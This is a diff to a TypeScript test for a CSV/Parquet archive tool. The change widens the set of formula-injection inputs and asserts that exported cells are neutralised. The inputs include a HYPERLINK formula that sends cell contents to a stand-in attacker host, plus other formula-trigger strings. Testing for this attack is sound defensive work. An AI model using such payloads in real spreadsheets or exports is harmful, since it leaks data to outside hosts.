@@ -15,8 +15,22 @@ const root = join(import.meta.dirname, '..', '..');
 const npm = (args: string[]) =>
   execFileSync('npm', ['run', '-s', ...args], { cwd: root, encoding: 'utf8', stdio: ['ignore', 'pipe', 'pipe'] });
 
-/** customer_ids a caller might send: formulas, a leading apostrophe of its own, a lone mark, plain text. */
-const CUSTOMERS = ['=HYPERLINK("https://evil.example/?d="&A1,"invoice")', '+SUM(1,2)', '@cmd', '-1', '\tx', "'quoted", "''", "'", 'plain'];
+/** customer_ids a caller might send: formulas (also behind whitespace), a leading apostrophe of its own, a lone mark, plain text. */
+const CUSTOMERS = [
+  '=HYPERLINK("https://evil.example/?d="&A1,"invoice")',
+  '+SUM(1,2)',
+  '@cmd',
+  '-1',
+  '\tx',
+  ' =1+1',
+  '\u00a0-2',
+  "'quoted",
+  "''",
+  "'",
+  'plain',
+];
+/** As stored: ingest turns control characters (the tab) into spaces. */
+const STORED = CUSTOMERS.map((c) => c.replace(/\t/g, ' '));
 
 let dir: string;
 beforeEach(() => {
@@ -62,8 +76,8 @@ describe('formula-looking text through the archive', () => {
     const out = join(dir, 'arch');
     npm(['archive', '--', file, '--out', out]);
     const rows = await parquetText(out);
-    expect(rows.map((r) => r.customer_id)).toEqual(CUSTOMERS);
-    expect(rows.map((r) => r.model)).toEqual(CUSTOMERS);
+    expect(rows.map((r) => r.customer_id)).toEqual(STORED);
+    expect(rows.map((r) => r.model)).toEqual(STORED);
   });
 
   it("npm run archive on the gateway's own CSV stores exactly the text that was sent", async () => {
@@ -76,7 +90,7 @@ describe('formula-looking text through the archive', () => {
     const out = join(dir, 'arch');
     npm(['archive', '--', file, '--out', out]);
     const rows = await parquetText(out);
-    expect(rows.map((r) => r.customer_id)).toEqual(CUSTOMERS);
+    expect(rows.map((r) => r.customer_id)).toEqual(STORED);
     expect(rows.map((r) => r.event_id)).toEqual(CUSTOMERS.map((_, i) => `-g${i}`));
   });
 
@@ -87,6 +101,7 @@ describe('formula-looking text through the archive', () => {
     const [header, ...rows] = parseCsv(csv);
     expect(header).toEqual(['customer_id', 'cost_usd', 'calls']);
     for (const cell of rows.flat()) expect(cell).not.toMatch(FORMULA_START);
-    expect(rows.map((r) => restoreText(r[0])).sort()).toEqual([...CUSTOMERS].sort());
+    for (const cell of rows.flat()) expect(cell).not.toMatch(/^\s*[=+\-@]/);
+    expect(rows.map((r) => restoreText(r[0])).sort()).toEqual([...STORED].sort());
   });
 });
